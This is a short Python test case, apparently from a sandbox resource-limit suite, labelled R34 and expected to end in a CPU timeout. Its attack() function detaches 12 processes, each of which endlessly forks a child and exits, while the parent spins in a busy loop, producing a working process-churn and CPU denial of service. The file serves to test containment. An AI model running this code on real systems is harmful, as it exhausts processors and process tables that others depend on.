"""R34  Lines of processes each of which makes the next and ends, so that the first process of the box always has dead to collect; all of them use the processor.
EXPECT cpu timed-out
WAY metric
"""
import os

import armed


def attack():
    armed.ran("R34")
    for _ in range(12):
        if os.fork() == 0:
            os.setsid()
            while True:
                try:
                    if os.fork():
                        os._exit(0)
                except OSError:
                    pass
    while True:
        pass
